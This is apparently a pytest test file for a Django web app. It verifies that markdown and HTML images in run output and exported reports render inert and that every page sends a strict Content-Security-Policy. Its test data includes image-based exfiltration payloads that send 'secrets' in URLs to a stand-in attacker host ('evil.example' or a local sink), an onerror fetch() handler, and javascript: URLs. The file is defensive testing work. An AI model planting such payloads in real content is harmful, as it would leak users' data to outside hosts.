"""No quiet way out through the page: every response carries a Content-Security-Policy, and an
image in a task, a step's output or the result is a link, never fetched by the browser that
opens the run (nor by whoever opens the exported report)."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.urls import reverse
from playwright.sync_api import expect

from planner_ui.models import Run, Step
from planner_ui.rendering import markdown_to_safe_html
from tests.browser.conftest import browser, page  # noqa: F401  (fixtures)
from tests.browser.flows import login


class _Sink(BaseHTTPRequestHandler):
    """Stands in for the attacker's host: counts every request that reaches it."""

    hits: list[str]

    def do_GET(self) -> None:  # noqa: N802  (the handler's protocol)
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def sink() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []
    handler = type("Sink", (_Sink,), {"hits": hits})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def _payloads(sink_url: str) -> dict[str, str]:
    return {
        "markdown": f"Done. ![chart]({sink_url}/p.png?leak=markdown-secret)",
        "raw": f'<img src="{sink_url}/raw.png?leak=raw-secret" onerror="fetch(\'{sink_url}/js\')">',
    }


def _leaky_run(owner, sink_url: str) -> Run:
    """A finished run whose task, step output and result all carry both kinds of image."""
    p = _payloads(sink_url)
    both = f"{p['markdown']}\n\n{p['raw']}"
    run = Run.objects.create(owner=owner, task=both, status="succeeded", result=both)
    Step.objects.create(
        run=run,
        step_id="summarize",
        title="Summarize",
        instruction=both,
        role="writer",
        status="succeeded",
        output=both,
    )
    return run


class _Tags(HTMLParser):
    """Every start tag of a document with its attributes, as a browser's parser sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags


def _assert_inert(html: str) -> None:
    tags = _tags(html)
    assert [t for t, _ in tags if t in {"img", "script", "iframe", "object", "embed"}] == []
    assert [(t, a) for t, attrs in tags for a in attrs if a.startswith("on")] == []


# --- the renderer -----------------------------------------------------------------------------


def test_a_markdown_image_renders_as_a_link_with_its_url_visible():
    html = markdown_to_safe_html("See ![the chart](http://evil.example/p.png?leak=s3cret).")
    _assert_inert(html)
    assert '<a href="http://evil.example/p.png?leak=s3cret"' in html
    assert ">the chart (http://evil.example/p.png?leak=s3cret)</a>" in html


def test_raw_html_images_stay_text():
    html = markdown_to_safe_html('<img src="http://evil.example/x" onerror="alert(1)">')
    _assert_inert(html)
    assert "&lt;img" in html


def test_an_image_without_a_safe_url_is_plain_text():
    html = markdown_to_safe_html("![x](javascript:alert(1)) ![y](data:image/png;base64,AAAA)")
    _assert_inert(html)
    assert [a.get("href") for tag, a in _tags(html) if tag == "a"] == []


def test_inert_markdown_leaves_code_and_plain_text_as_written():
    from planner_ui.rendering import markdown_inert

    code = "Use this:\n\n```html\n<img src=x onerror=alert(1)>\n```\n\nand `a < b`, 3 < 4."
    assert markdown_inert(code) == code
    assert markdown_inert("See ![x](http://h/p.png) <b>now</b>") == (
        "See [x](http://h/p.png) &lt;b>now&lt;/b>"
    )


# --- the header ---------------------------------------------------------------------------------


def _policy(response) -> dict[str, str]:
    header = response["Content-Security-Policy"]
    return {
        part.split()[0]: " ".join(part.split()[1:])
        for part in (p.strip() for p in header.split(";"))
        if part
    }


@pytest.mark.django_db
def test_every_page_sends_the_policy(client, client_alice, alice):
    run = _leaky_run(alice, "http://127.0.0.1:9")
    pages = [
        client.get(reverse("login")),
        client_alice.get(reverse("home")),
        client_alice.get(reverse("run_detail", args=[run.pk])),
        client_alice.get(reverse("run_list")),
    ]
    others = [client_alice.get("/no/such/page/"), client_alice.get("/api/v1/openapi.json")]
    for answer in pages:
        assert re.search(r"^'self' 'nonce-[A-Za-z0-9+/=]+'$", _policy(answer)["script-src"])
    for answer in pages + others:
        policy = _policy(answer)
        assert policy["script-src"].startswith("'self'")
        assert "'unsafe-inline'" not in policy["script-src"]
        assert "'unsafe-eval'" not in policy["script-src"]
        assert policy["img-src"] == "'self' data:"
        assert policy["connect-src"] == "'self' ws://testserver"
        assert policy["frame-ancestors"] == "'none'"
        assert policy["object-src"] == "'none'"
        assert policy["base-uri"] == "'self'"
        assert policy["form-action"] == "'self'"
        assert policy["default-src"] == "'self'"
    # A download keeps the stricter policy of its own.
    report = client_alice.get(reverse("run_report", args=[run.pk, "json"]))
    assert _policy(report)["default-src"] == "'none'" and "sandbox" in _policy(report)


@pytest.mark.django_db
def test_over_https_the_socket_is_wss(client_alice):
    answer = client_alice.get(reverse("home"), secure=True)
    assert _policy(answer)["connect-src"] == "'self' wss://testserver"


@pytest.mark.django_db
def test_the_htmx_script_carries_the_pages_nonce(client_alice):
    answer = client_alice.get(reverse("home"))
    nonce = re.search(r"'nonce-([^']+)'", answer["Content-Security-Policy"]).group(1)
    body = answer.content.decode()
    assert re.search(rf'<script[^>]*src="[^"]*htmx[^"]*"[^>]*nonce="{re.escape(nonce)}"', body)


# --- the exported report --------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["md", "html"])
def test_the_exported_report_carries_no_image_or_handler(client_alice, alice, kind):
    run = _leaky_run(alice, "http://127.0.0.1:9")
    answer = client_alice.get(reverse("run_report", args=[run.pk, kind]))
    assert answer.status_code == 200
    assert answer["Content-Disposition"] == f'attachment; filename="run-{run.pk}.{kind}"'
    body = answer.content.decode()
    _assert_inert(body)
    # A Markdown viewer renders Markdown: the report must be inert once rendered too.
    _assert_inert(markdown_to_safe_html(body) if kind == "md" else body)
    assert "leak=markdown-secret" in body  # shown, as a link or text, not dropped


@pytest.mark.django_db
def test_the_markdown_report_is_inert_in_a_viewer_that_renders_raw_html(client_alice, alice):
    """Many Markdown viewers pass raw HTML through: none may be left outside code."""
    from markdown_it import MarkdownIt

    run = _leaky_run(alice, "http://127.0.0.1:9")
    body = client_alice.get(reverse("run_report", args=[run.pk, "md"])).content.decode()
    _assert_inert(MarkdownIt("commonmark", {"html": True}).render(body))


@pytest.mark.django_db
def test_an_unknown_report_kind_is_404(client_alice, alice):
    run = _leaky_run(alice, "http://127.0.0.1:9")
    assert client_alice.get(reverse("run_report", args=[run.pk, "exe"])).status_code == 404
    assert client_alice.get(f"/runs/{run.pk}/report.md%0A").status_code == 404


# --- a real browser -------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.stack
@pytest.mark.django_db(transaction=True)
def test_chromium_opening_the_run_fetches_nothing_from_the_sink(
    page,  # noqa: F811
    daphne_url,
    make_user,
    sink,
):
    sink_url, hits = sink
    alice = make_user("alice", "pw-for-tests-1")
    run = _leaky_run(alice, sink_url)
    login(page, daphne_url, "alice", "pw-for-tests-1")
    page.goto(f"{daphne_url}/runs/{run.pk}/")
    expect(page.locator("#result")).to_be_visible()
    expect(page.locator("#ws-state")).to_have_text("live")
    page.wait_for_timeout(1000)  # anything the page would fetch has had its time
    assert hits == []
    assert page.locator("img").count() == 0
    # The image is still there to see, as a link its reader can choose to follow.
    expect(page.locator("#result a", has_text="leak=markdown-secret")).to_be_visible()


@pytest.mark.browser
@pytest.mark.stack
@pytest.mark.django_db(transaction=True)
def test_pages_the_browser_tests_do_not_open_work_under_the_policy(
    page,  # noqa: F811
    daphne_url,
    django_user_model,
):
    """The API's docs page and the admin: the page fixture fails on anything refused."""
    root = django_user_model.objects.create_superuser("root", password="pw-for-tests-1")
    login(page, daphne_url, "root", "pw-for-tests-1")
    page.goto(daphne_url + "/api/v1/docs")
    expect(page.locator(".swagger-ui .opblock").first).to_be_visible()
    for path in ["/admin/", "/admin/planner_ui/run/", f"/admin/auth/user/{root.pk}/change/"]:
        page.goto(daphne_url + path)
        expect(page.locator("#site-name")).to_be_visible()
    page.goto(daphne_url + "/settings/api-tokens/")
    expect(page.locator("#token-name")).to_be_visible()
    assert page.csp_violations == []
